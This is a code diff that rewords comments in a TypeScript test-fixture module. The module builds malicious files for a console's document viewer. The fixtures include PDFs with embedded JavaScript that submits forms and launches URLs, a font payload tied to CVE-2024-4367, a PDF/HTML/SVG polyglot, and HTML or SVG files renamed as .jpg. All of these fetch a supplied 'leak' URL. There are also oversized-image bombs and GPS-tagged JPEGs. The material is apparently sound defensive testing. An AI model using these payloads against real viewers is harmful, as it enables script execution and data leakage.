@@ -1,8 +1,8 @@
-/** Files made to harm, for the viewer of the console (K02): written here byte by byte, so that everybody sees what they try. */
+/** Malicious files for the console's viewer (K02), written here byte by byte so that everybody sees what they attempt. */
 
 const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
 
-/** A PDF of these objects, numbered from 1; the first is the catalogue. What stands `before` follows its signature. */
+/** A PDF of these objects, numbered from 1; the first is the catalogue. `before` is inserted after its signature. */
 function pdfOf(objects: readonly (string | Buffer)[], before = ''): Buffer {
   const parts: Buffer[] = [latin(`%PDF-1.7\n${before}`)];
   let length = parts[0]?.length ?? 0;
@@ -42,7 +42,7 @@ const drawing = (colour: string): Buffer =>
   stream('', `${colour} rg 0 0 400 300 re f 0 0 0 rg BT /F1 40 Tf 40 420 Td (Exemplo) Tj ET`);
 const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
 
-/** A PDF whose page is white above and of one colour below. */
+/** A PDF with a page that is white at the top and one colour at the bottom. */
 export const plainPdf = (colour = '0 0.5 0'): Buffer =>
   pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
@@ -52,7 +52,7 @@ export const plainPdf = (colour = '0 0.5 0'): Buffer =>
     FONT,
   ]);
 
-/** Scripts at every place a PDF may have one, a form that sends itself, links and a launch over the whole page. */
+/** Scripts everywhere a PDF may contain them, a form that submits itself, links and a launch covering the whole page. */
 export const scriptedPdf = (leak: string): Buffer => {
   const script = `/S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("${leak}/script"\\); app.launchURL\\("${leak}/launch"\\);)`;
   const whole = '/Rect [0 0 400 600]';
@@ -79,7 +79,7 @@ export const scriptedPdf = (leak: string): Buffer => {
   ]);
 };
 
-/** A font whose matrix is a program, as drawn glyphs once ran it (CVE-2024-4367). */
+/** A font whose matrix contains code, which glyph rendering once executed (CVE-2024-4367). */
 export const fontPdf = (leak: string): Buffer =>
   pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
@@ -95,7 +95,7 @@ export const fontPdf = (leak: string): Buffer =>
     ),
   ]);
 
-/** One file that is a PDF, a page and a drawing at once. */
+/** One file that is a PDF, an HTML page and an SVG at once. */
 export const manyPdf = (leak: string): Buffer =>
   pdfOf(
     [
@@ -108,7 +108,7 @@ export const manyPdf = (leak: string): Buffer =>
     `%<html><script>fetch('${leak}/html');alert('x')</script><img src="${leak}/img">\n%<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${leak}/svg')"><image href="${leak}/image"/></svg>\n`,
   );
 
-/** A PDF of so many empty pages. */
+/** A PDF with `pages` empty pages. */
 export const longPdf = (pages: number): Buffer =>
   pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
@@ -125,7 +125,7 @@ const imagePdf = (image: Buffer): Buffer =>
     image,
   ]);
 
-/** A picture that only says it has 900 million pixels. */
+/** An image that claims to have 900 million pixels. */
 export const hugeImagePdf = (): Buffer =>
   imagePdf(
     stream(
@@ -140,21 +140,21 @@ const bits = (text: string): Buffer => {
   return Buffer.from(whole.match(/.{8}/g)?.map((byte) => Number.parseInt(byte, 2)) ?? []);
 };
 
-/** A scanned page as office machines pack it (group 4): 16 × 4 pixels, all black. */
+/** A scanned page as office machines compress it (group 4): 16 × 4 pixels, all black. */
 export const scannedPdf = (): Buffer =>
   imagePdf(
     stream(
       `/Type /XObject /Subtype /Image /Width 16 /Height 4 /BitsPerComponent 1 /ColorSpace /DeviceGray
          /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 4 >>`,
-      // The first row runs 0 white and 16 black; the others are as the row above.
+      // The first row is 0 white and 16 black; the others repeat the row above.
       bits('001 00110101 0000010111 11 11 11 000000000001 000000000001'),
     ),
   );
 
-/** A PDF that ends in the middle. */
+/** A truncated PDF. */
 export const cutPdf = (): Buffer => plainPdf().subarray(0, 60);
 
-/** A JPEG that only says how large it is. */
+/** A JPEG that only states its size. */
 export const announcedJpeg = (width: number, height: number): Buffer => {
   const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
   frame.writeUInt16BE(height, 5);
@@ -176,10 +176,10 @@ const entry = (tag: number, type: number, count: number, value: number): Buffer 
   return bytes;
 };
 
-/** Place of a photo that nobody took: degrees, minutes, seconds. */
+/** Location of a photo that nobody took: degrees, minutes, seconds. */
 const PLACE = [19, 1, 55, 1, 7, 1];
 
-/** The same JPEG as a phone would send it: turned by its orientation alone, and with the place where it was taken. */
+/** The same JPEG as a phone would send it: rotated only by its orientation tag, and with the location where it was taken. */
 export function phoneJpeg(jpeg: Buffer, orientation: number): Buffer {
   const directory = Buffer.concat([
     Buffer.from([0, 2]),
@@ -197,7 +197,7 @@ export function phoneJpeg(jpeg: Buffer, orientation: number): Buffer {
   return Buffer.concat([jpeg.subarray(0, 2), head, latin('Exif\0\0'), tiff, jpeg.subarray(2)]);
 }
 
-/** Pages and drawings under the name of a picture. */
+/** HTML pages and SVGs named like a picture. */
 export const renamed = (leak: string): Record<string, Buffer> => ({
   'pagina.jpg': latin(`<!doctype html><script>fetch('${leak}/renamed')</script>`),
   'desenho.jpg': latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${leak}/renamed')"/>`),
